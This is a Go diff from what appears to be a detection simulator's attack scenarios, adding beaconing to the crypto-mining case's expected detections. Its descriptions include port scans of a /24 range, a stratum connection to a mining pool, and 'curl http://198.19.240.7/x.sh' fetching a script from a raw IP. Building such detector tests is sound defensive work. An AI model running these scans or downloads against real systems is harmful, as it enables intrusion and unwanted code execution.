@@ -105,7 +105,7 @@ func (s *sim) attacks() []Attack {
 			Start: at(15, 0), End: at(15, 1), What: "SYN to port 22 of 254 addresses of 198.19.250.0/24", run: scanHorizontal},
 		{Name: "port scan, vertical", Workload: wlBlog, Kind: KindPortScan, Also: []detect.Kind{newDest, raw},
 			Start: at(14, 0), End: at(14, 1), What: "SYN to ports 1-1024 of the database host", run: scanVertical},
-		{Name: "crypto mining", Workload: wlBlog, Kind: KindCryptoMining, Also: []detect.Kind{newDest},
+		{Name: "crypto mining", Workload: wlBlog, Kind: KindCryptoMining, Also: []detect.Kind{newDest, KindBeaconing},
 			Start: at(16, 0), End: at(17, 0), What: "stratum mining.subscribe to xmr.pool.example:3333, shares every 30 s", run: cryptoMining},
 		{Name: "raw-IP egress", Workload: wlFrontend, Kind: KindRawIPEgress, Also: []detect.Kind{newDest},
 			Start: at(18, 0), End: at(18, 1), What: "curl http://198.19.240.7/x.sh: 2 MB download, no DNS", run: rawIPEgress},
